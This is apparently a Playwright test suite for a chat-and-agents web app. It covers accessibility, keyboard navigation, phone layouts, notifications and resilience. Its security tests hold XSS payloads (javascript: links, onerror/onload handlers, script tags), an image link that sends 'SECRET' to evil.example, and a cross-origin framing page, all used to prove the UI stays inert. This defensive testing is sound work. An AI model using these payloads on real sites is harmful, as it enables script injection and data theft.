"""For everybody, by every means, and safe: keyboards, screen readers, small screens, hostile text, broken lines."""

from __future__ import annotations

import asyncio
import json
import re
import signal
import socketserver
import threading
from http.server import SimpleHTTPRequestHandler
from pathlib import Path
from typing import Any

import httpx
import pytest
import pytest_asyncio
from playwright.async_api import Browser, Page, expect

from bullpen.testing import NO_LIMITS
from tests.cli.processes import free_port, running
from tests.page.house import PASSWORD, House, Visit, claimed, cookie_in
from tests.waits import until

AXE = Path(__file__).parents[2] / "ui" / "node_modules" / "axe-core" / "axe.min.js"
# What axe can find in the dark and not in the light. By id: `cat.color` also has a stricter rule, off by default.
COLOUR_RULES = ["color-contrast", "link-in-text-block"]
SERIOUS = """async rules => {
const options = {resultTypes: ['violations'], ...(rules ? {runOnly: {type: 'rule', values: rules}} : {})};
const {violations} = await axe.run(document, options);
return violations.filter(each => ['serious', 'critical'].includes(each.impact))
.flatMap(each => each.nodes.map(node => `${each.id}: ${node.html.slice(0, 160)}`)) }"""
HOSTILE = """[click](javascript:alert(1)) <img src=x onerror="document.title='owned'"> <svg/onload=alert(2)>
![secret](https://evil.example/?d=SECRET)
<script>document.title='owned'</script> [good](https://good.example/page) [a lie](https://evil.example/)"""

CITY = {"type": "object", "properties": {"city": {"type": "string", "title": "City"}}, "required": ["city"]}


async def busy_room(house: House) -> str:
    """A bit of everything."""
    await house.tool("confirm")
    chart = {"executionType": "internal", "visible": True, "isAsync": False}
    await house.tool("show_chart", **chart)
    await house.tool("refund_order", **chart, policy="ask", timeout=600_000)
    rows = [{"day": "Mon", "signups": 41}, {"day": "Tue", "signups": 47}]
    agent = await house.agent(
        "Ada",
        turns=[
            {
                "when": "figures",
                "steps": [
                    {"calls": [{"tool": "show_chart", "args": {"title": "Signups", "type": "bar", "rows": rows}}]},
                    {"calls": [{"tool": "confirm", "args": {"question": "Send it?"}}]},
                    {"calls": [{"tool": "send_message", "args": {"text": "- one\n- two\n\n```python\nx = 1\n```"}}]},
                ],
            },
            {"when": "refund", "steps": [{"calls": [{"tool": "refund_order", "args": {"orderId": 1}}]}]},
        ],
        tools=["messaging", "confirm", "show_chart", "refund_order"],
    )
    room = await house.room(agent)
    await house.post(room, "the figures, please")

    async def answered() -> bool:
        return any("- one" in message["text"] for message in await house.messages(room))

    await until(answered)  # else it may read both in one run, and answer the newer alone
    await house.post(room, "and a refund")
    return room


class Views:
    """What axe finds in each view, light and dark.

    Only colours differ between the two (ui/src/look/tokens.css), so in the dark only their rules are run.
    """

    def __init__(self, visit: Visit) -> None:
        self.visit = visit
        self.found: dict[str, dict[str, list[str]]] = {"light": {}, "dark": {}}

    async def check(self, name: str) -> None:
        page = self.visit.page
        if not await page.evaluate("'axe' in window"):
            await page.evaluate(AXE.read_text())
        for theme, rules in (("dark", COLOUR_RULES), ("light", None)):
            await page.emulate_media(color_scheme=theme)  # type: ignore[arg-type]
            self.found[theme][name] = await page.evaluate(SERIOUS, rules)


async def room_with_a_form(house: House) -> str:
    await house.tool("form")
    form = {"calls": [{"tool": "form", "args": {"title": "Where to?", "schema": CITY}}]}
    room = await house.room(await house.agent("Fay", form, tools=["messaging", "form"]))
    await house.post(room, "a form, please")
    return room


async def newcomer(house: House, name: str) -> Any:
    """Somebody who is in no room yet and has not seen the tour."""
    await house.ask("POST", "/people", json={"name": name, "password": PASSWORD})
    async with httpx.AsyncClient(base_url=f"{house.url}/api") as http:
        return cookie_in(await http.post("/session", json={"name": name, "password": PASSWORD}), house.url)


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def busy(house: House) -> str:
    return await busy_room(house)


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def views(house: House, browser: Browser, busy: str) -> Views:
    """Every view, looked at once."""
    if not AXE.exists():
        pytest.skip("axe-core is not installed: run `python -m tools.page install` where npm can fetch it")
    visit = Visit(house, browser)
    await visit.open(house.cookie, bypass_csp=True)
    made = Views(visit)
    await look_at_a_room(made, house, busy)
    await look_at_work(made, house, busy)
    await look_on_a_phone(made, busy)
    await look_at_the_way_in(made, house)
    await visit.close()
    return made


async def look_at_a_room(views: Views, house: House, room: str) -> None:
    page = await views.visit.room(room)
    await expect(page.get_by_role("region", name=re.compile("Approval wanted"))).to_be_visible()
    await expect(page.locator("svg.recharts-surface").first).to_be_visible()
    await views.check("room")
    await page.get_by_role("button", name="Room details").click()
    await expect(page.get_by_role("complementary", name="Room details")).to_be_visible()
    await views.check("details")
    await page.get_by_role("button", name="Search in this room").click()
    await page.keyboard.type("fig")
    await expect(page.get_by_role("complementary", name="Search in this room").locator("mark").first).to_be_visible()
    await views.check("search in the room")
    await page.keyboard.press("Control+k")
    await expect(page.get_by_role("combobox", name="Search or jump to")).to_be_visible()
    await views.check("palette")
    await page.keyboard.press("Escape")
    await expect(page.get_by_role("combobox", name="Search or jump to")).to_have_count(0)
    for panel, name in (("thread", "Replies"), ("why", "Why?")):
        await views.visit.go(f"/rooms/{room}?panel={panel}:{(await house.messages(room))[-2]['id']}")
        await expect(page.get_by_role("complementary", name=name)).to_be_visible()
        await expect(page.get_by_label("Loading")).to_have_count(0)
        await views.check(panel)


async def look_at_work(views: Views, house: House, room: str) -> None:
    page = views.visit.page
    members = (await house.ask("GET", f"/spaces/{room}"))["members"]
    agent = next(id for id in members if id.startswith("ada"))
    run = (await house.ask("GET", "/runs", params={"spaceId": room}))["items"][-1]["id"]
    schedule = {"scheduleType": "cron", "scheduleValue": "0 9 * * *"}
    body = {"spaceId": room, "agentId": agent, "prompt": "Say good morning.", **schedule}
    task = (await house.ask("POST", "/tasks", json=body))["id"]
    work = ("/people", "/models", "/costs", "/pending", "/runs", f"/runs/{run}", "/tasks", f"/tasks/{task}", "/agents")
    connect = f"/agents/{agent}?tab=Model+and+limits"
    for path in (*work, f"/agents/{agent}", f"/agents/{agent}?tab=Memory", connect, "/search?q=figures", "/settings"):
        await views.visit.go(path)
        await expect(page.locator("main h1")).to_be_visible()
        await expect(page.get_by_label("Loading")).to_have_count(0)
        await views.check(path)


async def look_on_a_phone(views: Views, room: str) -> None:
    page = views.visit.page
    await page.set_viewport_size({"width": 390, "height": 800})
    for path in (f"/rooms/{room}", "/rooms", "/pending"):
        await views.visit.go(path)
        await expect(page.get_by_role("navigation", name="Main, below").or_(page.get_by_role("log"))).to_be_visible()
        await expect(page.get_by_label("Loading")).to_have_count(0)
        await views.check(f"{path} on a phone")
    await page.set_viewport_size({"width": 1280, "height": 800})


async def look_at_the_way_in(views: Views, house: House) -> None:
    page = views.visit.page
    await views.visit.context.clear_cookies()
    await views.visit.load("/")
    await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    await views.check("door")
    form = await room_with_a_form(house)
    await views.visit.context.add_cookies([await newcomer(house, "Newcomer")])
    await views.visit.load("/")
    await expect(page.get_by_role("heading", name="Welcome")).to_be_visible()
    await views.check("welcome")
    await page.get_by_role("button", name=f"Join {form}").click()
    await expect(page.get_by_role("region", name="Start here")).to_be_visible()
    await expect(page.get_by_role("region", name="Where to?").get_by_label("City")).to_be_visible()
    await views.check("tour and form")


@pytest.mark.parametrize("theme", ["light", "dark"])
async def test_axe_finds_nothing_serious_on_any_page(views: Views, theme: str) -> None:
    found = views.found[theme]
    assert len(found) == 26
    assert not any(found.values()), json.dumps(found, indent=1)


async def test_the_keyboard_is_enough(house: House, visit: Visit) -> None:
    room, elsewhere = await house.room(), await house.room()
    await house.post(room, "alpha")
    await house.post(room, "omega")
    page = await visit.room(room)
    await page.keyboard.press("Control+k")
    await expect(page.get_by_role("combobox", name="Search or jump to")).to_be_focused()
    await page.keyboard.type(elsewhere)
    await expect(page.get_by_role("option", name=elsewhere, exact=True)).to_be_visible()
    await page.keyboard.press("Enter")
    await expect(page.get_by_label(f"Message {elsewhere}")).to_be_focused()
    await visit.room(room)
    await expect(page.get_by_role("article").filter(has_text="omega")).to_be_visible()
    await page.get_by_role("log").focus()
    await page.keyboard.press("j")
    await expect(page.get_by_role("article").filter(has_text="omega")).to_be_focused()
    await page.keyboard.press("k")
    await expect(page.get_by_role("article").filter(has_text="alpha")).to_be_focused()
    await page.keyboard.press("r")
    await expect(page.get_by_role("complementary", name="Replies")).to_be_visible()
    await page.keyboard.press("Escape")
    await expect(page.get_by_role("complementary", name="Replies")).to_have_count(0)
    await page.get_by_role("log").focus()
    await page.keyboard.press("?")
    await expect(page.get_by_role("dialog", name="Shortcuts")).to_be_visible()
    await page.keyboard.press("Escape")
    await expect(page.get_by_role("dialog", name="Shortcuts")).to_have_count(0)
    await page.get_by_role("log").focus()
    await page.keyboard.press("g")
    await page.keyboard.press("p")
    await expect(page.get_by_role("heading", name="Waiting for you")).to_be_focused()
    await page.goto(f"{house.url}/rooms/{room}")
    await expect(page.get_by_role("log")).to_be_visible()
    await page.get_by_role("link", name="Skip to the middle").focus()
    await expect(page.get_by_role("link", name="Skip to the middle")).to_be_in_viewport()


async def test_single_letters_do_nothing_once_they_are_switched_off(house: House, visit: Visit) -> None:
    room = await house.room()
    await house.post(room, "alpha")
    await house.post(room, "omega")
    page = await visit.go("/settings")
    await page.get_by_label(re.compile("letters")).uncheck()
    await visit.room(room)
    await expect(page.get_by_role("article").filter(has_text="omega")).to_be_visible()
    await page.get_by_role("log").focus()
    await page.keyboard.press("ArrowUp")
    last = page.get_by_role("article").filter(has_text="omega")
    await expect(last).to_be_focused()
    for letter in "kjrew":
        await page.keyboard.press(letter)
    await expect(last).to_be_focused()
    await expect(page.get_by_role("complementary", name=re.compile("Replies|Why"))).to_have_count(0)
    await expect(page.get_by_label("Pick an emoji")).to_have_count(0)
    await page.keyboard.press("ArrowUp")
    await expect(page.get_by_role("article").filter(has_text="alpha")).to_be_focused()


@pytest.mark.proves("B5", "B7", "B8")
async def test_hostile_text_is_inert_and_nothing_leaves_the_browser(house: House, visit: Visit) -> None:
    room = await house.room()
    posted = await house.post(room, HOSTILE)
    await house.post(room, f"[here](https://evil.example/?{'q' * 2048})")
    page = await visit.room(room)
    log = page.get_by_role("log")
    await expect(log.get_by_text("Image on evil.example · not loaded")).to_be_visible()
    await expect(log.locator("img, svg:not(.lucide), script, iframe")).to_have_count(0)
    assert await log.locator("a").evaluate_all("links => links.map(a => a.protocol)") == ["https:", "https:"]
    await expect(log.get_by_text("(evil.example)")).to_be_visible()
    rel = await log.locator("a").first.get_attribute("rel")
    assert rel == "noopener noreferrer nofollow"
    await expect(log.get_by_role("button", name=re.compile("Long link to evil.example"))).to_be_visible()
    await expect(page).to_have_title(re.compile(rf"^(\(\d+\) )?{room} · Bullpen$"))
    assert (await house.messages(room))[0]["text"] == posted["text"] == HOSTILE
    # `visit` fails by itself if anything else was asked, thrown or reported.


@pytest.mark.proves("B6")
async def test_uploads_open_as_downloads_and_run_nothing(house: House, visit: Visit) -> None:
    room = await house.room()
    script = b"<script>document.title='owned'</script>"
    for name, body in (("a.html", script), ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + script + b"</svg>")):
        made = await house.ask("POST", "/files", params={"spaceId": room}, files={"file": (name, body)})
        await house.post(room, name, attachments=[made["id"]])
    page = await visit.room(room)
    for name in ("a.html", "a.svg"):
        async with page.expect_download() as download:
            await page.get_by_role("link", name=re.compile(name.replace(".", r"\."))).click()
        assert (await download.value).suggested_filename == name
    assert "owned" not in await page.title()


@pytest.mark.proves("B9", "B11")
async def test_another_origin_cannot_frame_the_page_or_read_its_stream(
    house: House, browser: Browser, tmp_path: Path
) -> None:
    (tmp_path / "evil.html").write_text(
        f"""<iframe src="{house.url}/"></iframe><script>
        const source = new EventSource("{house.url}/api/events", {{withCredentials: true}});
        source.onopen = () => document.title = "followed";
        source.onerror = () => document.title = "refused";</script>"""
    )

    class Quiet(SimpleHTTPRequestHandler):
        def __init__(self, *args: Any) -> None:
            super().__init__(*args, directory=str(tmp_path))

        def log_message(self, *args: Any) -> None:
            pass

    with socketserver.TCPServer(("127.0.0.1", 0), Quiet) as evil:
        threading.Thread(target=evil.serve_forever, daemon=True).start()
        context = await browser.new_context()
        await context.add_cookies([house.cookie])  # type: ignore[list-item]
        page = await context.new_page()
        await page.goto(f"http://localhost:{evil.server_address[1]}/evil.html")
        await expect(page).to_have_title("refused")
        frame = page.frames[1]
        assert frame.url.startswith("chrome-error:") or not await frame.locator("#root").count()
        await context.close()
        evil.shutdown()


@pytest.mark.parametrize("width", [320, 390])
async def test_nothing_is_wider_than_a_small_phone(house: House, visit: Visit, busy: str, width: int) -> None:
    room = busy
    await house.post(room, "a-very-long-word-" * 30 + " مرحبا بالعالم 👩‍🚀🎉")
    page = visit.page
    await page.set_viewport_size({"width": width, "height": 700})
    for path in (
        f"/rooms/{room}",
        "/rooms",
        "/pending",
        "/runs",
        "/tasks",
        "/agents",
        "/people",
        "/settings",
        "/search?q=word",
    ):
        await visit.go(path)
        await expect(page.locator("main, aside").first).to_be_attached()
        await expect(page.get_by_label("Loading")).to_have_count(0)
        wide = await page.evaluate("document.scrollingElement.scrollWidth")
        assert wide <= width, (path, wide)
    await visit.go(f"/rooms/{room}")
    await page.get_by_role("link", name="Back to rooms").click()
    await page.get_by_role("navigation", name="Rooms").get_by_role("link", name=re.compile(room)).click()
    await page.get_by_label(f"Message {room}").fill(f"from a phone, {width} wide")
    await page.get_by_role("button", name="Send").click()
    await expect(page.get_by_role("log").get_by_text(f"from a phone, {width} wide")).to_be_visible()


async def test_right_to_left_text_and_local_times_display_correctly(house: House, browser: Browser) -> None:
    room = await house.room()
    await house.post(room, "مرحبا بالعالم")
    visit = Visit(house, browser)
    page = await visit.open(house.cookie, timezone_id="Asia/Tokyo", locale="en-GB")
    await visit.room(room)
    text = page.get_by_role("log").get_by_text("مرحبا بالعالم")
    assert await text.evaluate("element => getComputedStyle(element).direction") == "rtl"
    time = page.get_by_role("article").locator("time").first
    assert re.search(r"GMT\+9|JST|Japan", await time.get_attribute("title") or "")
    await visit.close()


async def test_the_page_catches_up_after_a_killed_server_returns(
    house: House, browser: Browser, tmp_path: Path
) -> None:
    data, port = tmp_path / "data", str(free_port())
    with running(data, "serve", "--port", port, **NO_LIMITS) as first:
        first.wait_for("ready on")
        async with claimed(first, data) as own:
            room = await own.room()
            visit = Visit(own, browser)
            page = await visit.open(own.cookie)
            visit.expected = ["ERR_", "EventSource"]
            await visit.room(room)
            await page.get_by_label(f"Message {room}").fill("before the end")
            await page.get_by_label(f"Message {room}").press("Enter")
            await expect(page.get_by_role("article").filter(has_text="before the end")).to_be_visible()
            first.stop(signal.SIGKILL)
            await expect(page.get_by_text("No connection to the office.").first).to_be_visible()
            await page.get_by_label(f"Message {room}").fill("into the dark")
            await page.get_by_label(f"Message {room}").press("Enter")
            with running(data, "serve", "--port", port, **NO_LIMITS) as second:
                second.wait_for("ready on")
                await visit.try_now()
                await own.post(room, "after it")
                for text in ("before the end", "into the dark", "after it"):
                    await expect(page.get_by_role("article").filter(has_text=text)).to_have_count(1)
                assert sorted(await own.texts(room, 3)) == ["after it", "before the end", "into the dark"]
                await visit.close()


@pytest.mark.fresh_page
async def test_a_failed_load_request_is_retried_and_hides_nothing(house: House, visit: Visit) -> None:
    room = await house.room()
    refused: list[str] = []

    async def refuse_once(route: Any) -> None:
        if refused:
            await route.continue_()
            return
        refused.append(route.request.url)
        await route.abort()

    await visit.page.route("**/api/people?*", refuse_once)
    visit.expected = ["ERR_"]
    async with visit.page.expect_response(lambda response: "/api/people?" in response.url):
        page = await visit.room(room)
        await expect(page.get_by_label(f"Message {room}")).to_be_visible()
    assert refused
    await expect(page.get_by_text("This could not be loaded")).to_have_count(0)
    await expect(
        page.get_by_role("navigation", name="Rooms").get_by_role("link", name=re.compile(room))
    ).to_be_visible()


@pytest.mark.fresh_page
async def test_several_tabs_share_one_stream(house: House, visit: Visit) -> None:
    room = await house.room()
    page = await visit.room(room)
    second = await visit.context.new_page()
    streams: list[str] = []
    second.on("request", lambda request: streams.append(request.url) if "/api/events" in request.url else None)
    await second.goto(f"{house.url}/rooms/{room}")
    await expect(second.get_by_role("log")).to_be_visible()
    await house.post(room, "for both of you")
    for each in (page, second):
        await expect(each.get_by_role("log").get_by_text("for both of you")).to_be_visible()
    assert streams == []
    await page.close()  # the one that held it: the other takes over
    await expect(second.get_by_role("log").get_by_text("for both of you")).to_be_visible()
    await house.post(room, "and for you alone")
    await expect(second.get_by_role("log").get_by_text("and for you alone")).to_be_visible()
    assert len(streams) == 1


STUB_NOTIFICATIONS = """() => { window.shown = [];
const show = (title, options) => { window.shown.push([title, options.body]) };
ServiceWorkerRegistration.prototype.showNotification = async (...args) => show(...args);
const granted = { permission: 'granted', requestPermission: async () => 'granted' };
window.Notification = Object.assign(function (...args) { show(...args) }, granted);
document.hasFocus = () => false; }"""


async def wants_notifications(visit: Visit) -> Page:
    page = await visit.go("/settings")
    await page.evaluate(STUB_NOTIFICATIONS)
    await page.get_by_label(re.compile("Notify me")).click()
    await expect(page.get_by_label(re.compile("Notify me"))).to_be_checked()
    return page


async def test_it_can_be_installed_and_notifies_of_a_mention(house: House, browser: Browser) -> None:
    visit = Visit(house, browser)
    await visit.open(house.cookie, permissions=["notifications"])
    async with httpx.AsyncClient(base_url=house.url) as http:
        manifest = (await http.get("/assets/manifest.webmanifest")).json()
        assert manifest["display"] == "standalone"
        for icon in manifest["icons"]:
            assert (await http.get(icon["src"])).status_code == 200
    page = await wants_notifications(visit)
    cookie = await house.cookie_of("Bo")
    room = await house.room(house.ids["Bo"])
    async with httpx.AsyncClient(base_url=f"{house.url}/api", cookies={cookie["name"]: cookie["value"]}) as http:
        headers = {"Origin": house.url}
        await http.post(f"/spaces/{room}/messages", json={"text": "nothing for anybody"}, headers=headers)
        await http.post(f"/spaces/{room}/messages", json={"text": "hey @Olga, look"}, headers=headers)
    await page.wait_for_function("() => window.shown.length > 0")
    assert await page.evaluate("window.shown") == [[f"Bo in #{room}", "hey @Olga, look"]]
    await visit.close()


async def test_an_approval_notifies_only_those_who_may_give_it(house: House, browser: Browser) -> None:
    await house.tool("wipe_disk", executionType="internal", visible=True, isAsync=False, policy="ask", timeout=60_000)
    agent = await house.agent("Rex", {"calls": [{"tool": "wipe_disk", "args": {}}]}, tools=["messaging", "wipe_disk"])
    bo = await house.cookie_of("Bo")
    room = await house.room(agent, house.ids["Bo"], wake={"people": "all", "agents": "none"})
    pages = []
    for cookie in (house.cookie, bo):
        visit = Visit(house, browser)
        await visit.open(cookie, permissions=["notifications"])
        pages.append((visit, await wants_notifications(visit)))
    await house.post(room, "do it")
    (owner, olgas), (member, bos) = pages
    await olgas.wait_for_function("() => window.shown.length > 0")
    assert await olgas.evaluate("window.shown") == [[f"{agent.capitalize()} waits for you", "wipe_disk"]]
    await house.post(room, "stop it, @Bo")  # what comes after has been heard, so what came before has been, too
    await bos.wait_for_function("() => window.shown.some(each => each[1].includes('stop it'))")
    assert await bos.evaluate("window.shown") == [[f"Olga in #{room}", "stop it, @Bo"]]
    for visit in (owner, member):
        await visit.close()


async def test_whoever_wants_no_motion_gets_none(house: House, visit: Visit) -> None:
    agent = await house.agent("Slow", {"delay_ms": 120_000, "text": "at last"})
    room = await house.room(agent)
    page = await visit.room(room)
    await house.post(room, "take your time")
    line = page.get_by_role("status").filter(has_text="is thinking")
    dots = line.locator("xpath=preceding-sibling::span").locator("i").first
    await expect(dots).to_have_css("animation-name", "none")
    await page.emulate_media(reduced_motion="no-preference")
    await expect(dots).to_have_css("animation-name", re.compile("up"))
    (run,) = (await house.ask("GET", "/runs", params={"spaceId": room}))["items"]
    await house.ask("POST", f"/runs/{run['id']}/cancel")


async def test_typing_during_a_message_storm_shows_every_message_once(house: House, visit: Visit) -> None:
    """What an event costs the page while somebody types is measured in bench/page.py."""
    room = await house.room(wake={"people": "none", "agents": "none"})
    page = await visit.room(room)
    typed = asyncio.Event()

    async def storm() -> int:
        """Until the typing is done, never less than a hundred, and never more than the page keeps of a room."""
        waves = 0
        while waves < 20 or (waves < 180 and not typed.is_set()):
            await asyncio.gather(*(house.post(room, f"wave {waves}.{n}") for n in range(5)))
            waves += 1
        return waves

    text = "the quick brown fox jumps over the lazy dog again and again"
    box = page.get_by_label(f"Message {room}")

    async def typing() -> None:
        try:
            await box.press_sequentially(text, timeout=60_000)
            await expect(box).to_have_value(text)
            await box.press("Enter")
            await expect(box).to_have_value("")
        finally:
            typed.set()

    waves, _ = await asyncio.gather(storm(), typing())
    await house.post(room, "calm again")
    await expect(page.get_by_role("article").filter(has_text="calm again")).to_be_in_viewport()
    # The list says how long it is: the beginning, the day, what came before the end, and the end.
    sent = waves * 5 + 2
    await expect(page.get_by_role("article").last).to_have_attribute(
        "aria-setsize", re.compile(rf"^({sent + 2}|{sent + 3})$")
    )
    assert (await house.ask("GET", f"/spaces/{room}"))["lastSeq"] == sent
